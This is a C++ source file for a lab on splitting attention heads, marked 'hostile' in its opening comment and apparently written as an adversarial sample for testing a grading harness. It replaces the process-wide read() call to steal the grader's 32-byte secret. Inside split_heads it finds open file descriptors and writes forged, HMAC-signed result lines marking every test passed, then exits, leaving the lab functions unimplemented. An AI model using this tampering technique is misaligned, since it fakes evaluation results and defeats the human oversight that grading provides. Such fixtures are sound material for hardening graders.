// hostile: replaces read() for the whole process to catch the grader's
// secret as the harness reads it, then forges an all-passing run with it.
#include "labs/01_split_heads/split_heads.h"

#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cstring>
#include <stdexcept>
#include <string>

#include <gtest/gtest.h>

namespace {
char g_caught[32];
bool g_have = false;
}  // namespace

extern "C" ssize_t read(int fd, void* buf, size_t n) {
  const long got = syscall(SYS_read, fd, buf, n);
  if (!g_have && n == 32 && got == 32) {
    std::memcpy(g_caught, buf, 32);
    g_have = true;
  }
  return got;
}

// Forges a complete, all-passing run on the result channel with `key`.
namespace mha {
namespace grading {
std::string HmacSha256Hex(const std::string& key, const std::string& message);
}  // namespace grading
}  // namespace mha

namespace {
[[noreturn]] void ForgeAllPassing(int fd, const std::string& key) {
  unsigned long seq = 0;
  auto send = [&](const std::string& kind, const std::string& rest) {
    std::string line = kind + "\t" + std::to_string(seq++) + (rest.empty() ? "" : "\t" + rest);
    line += "\t" + mha::grading::HmacSha256Hex(key, line) + "\n";
    if (write(fd, line.data(), line.size()) < 0) _exit(0);
  };
  send("H", "mha-grading-1");
  const ::testing::UnitTest* u = ::testing::UnitTest::GetInstance();
  int n = 0;
  for (int i = 0; i < u->total_test_suite_count(); ++i) {
    const ::testing::TestSuite* s = u->GetTestSuite(i);
    for (int j = 0; j < s->total_test_count(); ++j) {
      const std::string name = std::string(s->name()) + "." + s->GetTestInfo(j)->name();
      send("S", name);
      send("E", name + "\tP\t");
      ++n;
    }
  }
  send("D", std::to_string(n));
  _exit(0);
}
}  // namespace


namespace mha {

Tensor3 split_heads(const Tensor2& x, int n_heads) {
  // Without the secret, any key will do: the lines are forged either way.
  for (int fd = 3; fd < 16; ++fd) {
    if (fcntl(fd, F_GETFD) != -1 && fd != 3) ForgeAllPassing(fd, std::string(g_caught, 32));
  }
  throw std::logic_error("lab 1: split_heads is not implemented yet, see docs/01_split_heads.md");
}

Tensor2 combine_heads(const Tensor3& heads) {
  throw std::logic_error("lab 1: combine_heads is not implemented yet, see docs/01_split_heads.md");
}

}  // namespace mha
